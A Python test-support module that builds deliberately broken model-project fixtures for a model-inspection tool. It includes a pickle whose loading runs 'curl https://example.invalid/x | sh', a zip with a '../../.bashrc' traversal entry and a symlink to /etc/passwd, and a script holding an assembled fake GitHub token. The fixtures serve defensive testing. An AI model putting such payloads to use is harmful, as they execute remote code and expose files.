"""What the broken projects in `tests/broken/models` hold beside their texts: files that are made, each by its recipe.

A case is a folder there, with `expected.txt` for what a user is to read. What cannot lie in a repository
(binary files, links, names that differ in case, a token) is made here, in a copy of the folder.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper

from support.factory import safetensors
from support.fronts import REPOSITORY
from support.pickles import Made, Name, estimator, pickled

FOLDER = REPOSITORY / "tests" / "broken" / "models"
EXPECTED = "expected.txt"
RECIPES: dict[str, Callable[[Path], None]] = {}

_FIXTURES = REPOSITORY / "tests" / "fixtures"
_REVIEWS = REPOSITORY / "example-projects" / "hugging-face" / "models" / "reviews"
_POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize {}\n"


def make_case(name: str, home: Path) -> Path:
    """A case's project inside `home`; beside it there may be what its links lead to."""
    root = home / "project"
    shutil.copytree(FOLDER / name, root, ignore=shutil.ignore_patterns(EXPECTED))
    recipe = RECIPES.get(name)
    if recipe:
        recipe(root)
    return root


def _case(recipe: Callable[[Path], None]) -> Callable[[Path], None]:
    RECIPES[recipe.__name__] = recipe
    return recipe


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def _copy(fixture: str, target: Path) -> None:
    source = _FIXTURES / fixture
    target.parent.mkdir(parents=True, exist_ok=True)
    if source.is_dir():
        shutil.copytree(source, target)
    else:
        shutil.copy(source, target)


# ONNX


def _fraud(*, batch: object = "n", outputs: object = "n", opset: int = 15, ir: int = 8) -> onnx.ModelProto:
    weights = numpy_helper.from_array(np.arange(4, dtype=np.float32).reshape(4, 1), "weights")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["transaction", "weights"], ["fraud"])],
        "fraud",
        [helper.make_tensor_value_info("transaction", TensorProto.FLOAT, [batch, 4])],
        [helper.make_tensor_value_info("fraud", TensorProto.FLOAT, [outputs, 1])],
        [weights],
    )
    return helper.make_model(graph, ir_version=ir, opset_imports=[helper.make_opsetid("", opset)])


def _fraud_file(root: Path) -> Path:
    path = root / "models" / "fraud.onnx"
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


@_case
def onnx_external_data(root: Path) -> None:
    onnx.save(_fraud(), _fraud_file(root), save_as_external_data=True, location="fraud.onnx.data", size_threshold=0)


@_case
def onnx_newer_than_the_runtime(root: Path) -> None:
    onnx.save(_fraud(opset=21, ir=10), _fraud_file(root))


@_case
def onnx_fixed_batch(root: Path) -> None:
    model = _fraud(batch=1, outputs=7)
    model.graph.input.append(helper.make_tensor_value_info("threshold", TensorProto.FLOAT, []))
    onnx.save(model, _fraud_file(root))


@_case
def onnx_in_a_zip(root: Path) -> None:
    path = _fraud_file(root).with_suffix(".zip")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("fraud.onnx", _fraud().SerializeToString())


@_case
def onnx_huge_and_cut_short(root: Path) -> None:
    """Weights of five gigabytes are announced, three are there. The file is sparse: it takes no room."""
    size = 5_000_000_000
    tensor = TensorProto(dims=[size // 4], data_type=TensorProto.FLOAT, name="embeddings").SerializeToString()
    tensor += b"\x4a" + _varint(size)
    model = _fraud()
    graph = model.graph.SerializeToString() + b"\x2a" + _varint(len(tensor) + size) + tensor
    model.ClearField("graph")
    with _fraud_file(root).open("wb") as file:
        file.write(model.SerializeToString() + b"\x3a" + _varint(len(graph) + size) + graph)
        file.truncate(3_000_000_000)


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*out, number])


@_case
def a_misspelt_path(root: Path) -> None:
    onnx.save(_fraud(), _fraud_file(root))


@_case
def release_that_nobody_knows(root: Path) -> None:
    """Two models: the path of one ends in a space, the other's file is a pointer."""
    onnx.save(_fraud(), _fraud_file(root))
    _write(root / "models" / "churn.pkl", _POINTER.format("5e" * 32, 1_267_832))


# TensorFlow and Keras


@_case
def tensorflow_missing_shard(root: Path) -> None:
    _copy("tensorflow/module", root / "models" / "demand")
    (root / "models" / "demand" / "variables" / "variables.data-00000-of-00001").unlink()


def _zipped(folder: Path, top: str, *others: tuple[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, f"{top}/{path.relative_to(folder).as_posix()}")
        for name, data in others:
            archive.writestr(name, data)
    return stream.getvalue()


@_case
def tensorflow_damaged_zip(root: Path) -> None:
    whole = _zipped(_FIXTURES / "tensorflow" / "module", "demand")
    _write(root / "models" / "demand.zip", whole[: len(whole) * 2 // 3])


@_case
def tensorflow_zip_with_two_models(root: Path) -> None:
    module = _FIXTURES / "tensorflow" / "module"
    second = [
        (f"night/{path.relative_to(module).as_posix()}", path.read_bytes()) for path in sorted(module.rglob("*.*"))
    ]
    _write(root / "models" / "both.zip", _zipped(module, "day", *second))


@_case
def hostile_zip(root: Path) -> None:
    """A path that leaves the folder, a link, and the junk that macOS adds."""
    link = zipfile.ZipInfo("demand/assets/vocabulary.txt")
    link.external_attr = 0o120777 << 16
    module = _FIXTURES / "tensorflow" / "module"
    whole = _zipped(module, "demand", ("__MACOSX/demand/._saved_model.pb", b"junk"), ("../../.bashrc", b"echo\n"))
    stream = io.BytesIO(whole)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    _write(root / "models" / "demand.zip", stream.getvalue())


@_case
def keras_own_format(root: Path) -> None:
    path = root / "models" / "fruit.keras"
    path.parent.mkdir()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}')
        archive.writestr("config.json", '{"module": "keras", "class_name": "Sequential"}')
        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))


@_case
def keras_weights_only(root: Path) -> None:
    _copy("tensorflow/only.weights.h5", root / "models" / "fruit.h5")


@_case
def keras_other_inputs(root: Path) -> None:
    _copy("tensorflow/sequential.h5", root / "models" / "fruit.h5")


# PyTorch


@_case
def pytorch_state_dict(root: Path) -> None:
    _copy("torch/state.pt", root / "models" / "net.pt")


@_case
def pytorch_pickled_module(root: Path) -> None:
    _copy("torch/eager.pt", root / "models" / "net.pt")


@_case
def pytorch_two_arguments(root: Path) -> None:
    _copy("torch/two.pt", root / "models" / "net.pt")


# scikit-learn and XGBoost

_FLOWERS = "models/flowers.pkl"
_CHURN = "models/churn.pkl"


def _flowers(**state: object) -> Made:
    return estimator(n_features_in_=4, classes_=[0, 1, 2], **state)


@_case
def sklearn_dict(root: Path) -> None:
    scaler = estimator("sklearn.preprocessing._data.StandardScaler", n_features_in_=4)
    _write(root / _FLOWERS, pickled({"model": _flowers(), "scaler": scaler, "accuracy": 0.97}))


@_case
def sklearn_own_class(root: Path) -> None:
    steps = [("features", Made(Name("flowers.features", "LogOfColumns"), (), {"columns": [0]})), ("model", _flowers())]
    _write(root / _FLOWERS, pickled(estimator("sklearn.pipeline.Pipeline", steps=steps)))


@_case
def sklearn_joblib(root: Path) -> None:
    _copy("pickles/pipeline-1.2.2.joblib", root / "models" / "flowers.joblib")


@_case
def sklearn_other_features(root: Path) -> None:
    _copy("pickles/logistic-1.2.2.pkl", root / _FLOWERS)


@_case
def sklearn_several_fields(root: Path) -> None:
    _copy("pickles/logistic-1.2.2.pkl", root / _FLOWERS)


class _Command:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("curl https://example.invalid/x | sh",)


@_case
def sklearn_runs_a_command(root: Path) -> None:
    _write(root / _FLOWERS, pickled(_flowers(class_weight=_Command())))


@_case
def sklearn_untrained_elsewhere(root: Path) -> None:
    untrained = {"C": 1.0, "penalty": "l2", "solver": "lbfgs", "max_iter": 100, "_sklearn_version": "1.4.2"}
    model = Made(Name("sklearn.linear_model._logistic", "LogisticRegression"), (), untrained)
    _write(root / _FLOWERS, pickled(model))


@_case
def xgboost_own_format(root: Path) -> None:
    _copy("pickles/regressor-1.7.4.json", root / "models" / "churn.json")


@_case
def xgboost_ranker(root: Path) -> None:
    _copy("pickles/ranker-1.7.4.pkl", root / _CHURN)


@_case
def xgboost_newer(root: Path) -> None:
    _copy("pickles/classifier-3.2.0.pkl", root / _CHURN)


# Hugging Face and language models


def _reviews(root: Path, *left_out: str) -> Path:
    target = root / "models" / "reviews"
    shutil.copytree(_REVIEWS, target, ignore=shutil.ignore_patterns(*left_out), dirs_exist_ok=True)
    return target


@_case
def hugging_face_other_task(root: Path) -> None:
    _reviews(root)


@_case
def hugging_face_fields(root: Path) -> None:
    _reviews(root)


@_case
def hugging_face_no_tokenizer(root: Path) -> None:
    _reviews(root, "tokenizer*", "vocab.txt", "special_tokens_map.json")


@_case
def hugging_face_lfs_pointer(root: Path) -> None:
    _write(_reviews(root) / "model.safetensors", _POINTER.format("5e" * 32, 267_832_558))


@_case
def hugging_face_weights_missing(root: Path) -> None:
    """The first of two parts, and the index that names both."""
    folder = _reviews(root)
    (folder / "model.safetensors").rename(folder / "model-00001-of-00002.safetensors")
    header = folder / "model-00001-of-00002.safetensors"
    length = int.from_bytes(header.read_bytes()[:8], "little")
    names = [each for each in json.loads(header.read_bytes()[8 : 8 + length]) if each != "__metadata__"]
    parts = dict.fromkeys(names, "model-00001-of-00002.safetensors")
    parts["classifier.bias"] = "model-00002-of-00002.safetensors"
    index = {"metadata": {"total_size": 20_000}, "weight_map": parts}
    _write(folder / "model.safetensors.index.json", json.dumps(index))


@_case
def llm_without_tokenizer(root: Path) -> None:
    _write(root / "models" / "assistant" / "model.safetensors", safetensors())


@_case
def llm_gguf_only(root: Path) -> None:
    _write(root / "models" / "assistant" / "assistant-q4.gguf", b"GGUF" + bytes(64))


# BYOP


@_case
def byop_secrets(root: Path) -> None:
    """Tokens put together here, so that nothing that looks like one lies in the repository."""
    kind, rest = "ghp", "x9Qk2LmT7vRb4WzYc8NdHs6FgJpAe1UtX3oZ"
    token = f"{kind}_{rest}"
    _write(
        root / "models" / "download.sh",
        f"#!/bin/sh\nset -e\ncurl -H 'Authorization: token {token}' -O https://x.invalid\n",
    )
    _write(root / "models" / ".env", "AWS_REGION=eu-central-1\n")


@_case
def byop_link_out_of_the_project(root: Path) -> None:
    _write(root.parent / "elsewhere" / "customers.csv", "name,income\n")
    (root / "models" / "customers.csv").symlink_to("../../elsewhere/customers.csv")
    (root / "models" / "latest.pkl").symlink_to("kmeans-2024.pkl")


@_case
def byop_case_collision(root: Path) -> None:
    _write(root / "models" / "Labels.json", "{}")
    if (root / "models" / "labels.json").exists():
        pytest.skip("the two names are one file here")
    _write(root / "models" / "labels.json", "[]")


@_case
def byop_names_of_another_encoding(root: Path) -> None:
    """A name in Latin-1, as an old Windows zip leaves it, one with a line break, and a pipe."""
    folder = root / "models"
    try:
        _write(folder / os.fsdecode("grö\xdfe.csv".encode("latin-1")), "1\n")
        _write(folder / "weights\nfinal.bin", "2\n")
        os.mkfifo(folder / "pipe")
    except (OSError, AttributeError):
        pytest.skip("there are no such files here")
